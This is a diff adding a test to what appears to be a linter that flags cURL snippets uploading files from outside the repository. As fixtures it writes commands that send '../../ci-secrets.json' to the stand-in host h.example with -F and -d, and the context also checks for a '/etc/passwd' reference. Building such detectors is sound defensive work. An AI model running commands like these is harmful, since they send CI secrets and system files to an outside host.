@@ -119,6 +119,20 @@ def test_a_file_part_leaving_the_repository_is_flagged(repo: Path) -> None:
     assert "/etc/passwd" in lines[found[1]["line"] - 1]
 
 
+def test_a_form_file_part_in_a_snippet_is_placed_at_its_option_value(repo: Path) -> None:
+    """-F parts of a cURL snippet carry where they were written, like its headers."""
+    snippet = (
+        "curl https://h.example/upload \\\n"
+        "  -F a=1 --form-string 'b=@x' \\\n"
+        "     -F 'f=@../../ci-secrets.json'\n"
+    )
+    (repo / "snippets" / "up.curl").write_text(snippet)
+    result = run("lint", "--format", "json", "snippets/up.curl", cwd=repo)
+    found = [f for f in json.loads(result.stdout) if f["code"] == "BK403"]
+    assert [(f["line"], f["column"]) for f in found] == [(3, 10)]
+    assert SECRET not in result.stdout
+
+
 def test_import_still_reads_the_files_its_user_names(repo: Path) -> None:
     # As curl does, import reads a name from the folder it runs in.
     (repo / "snippets" / "call.sh").write_text("curl -d @../ci-secrets.json https://h.example/x\n")
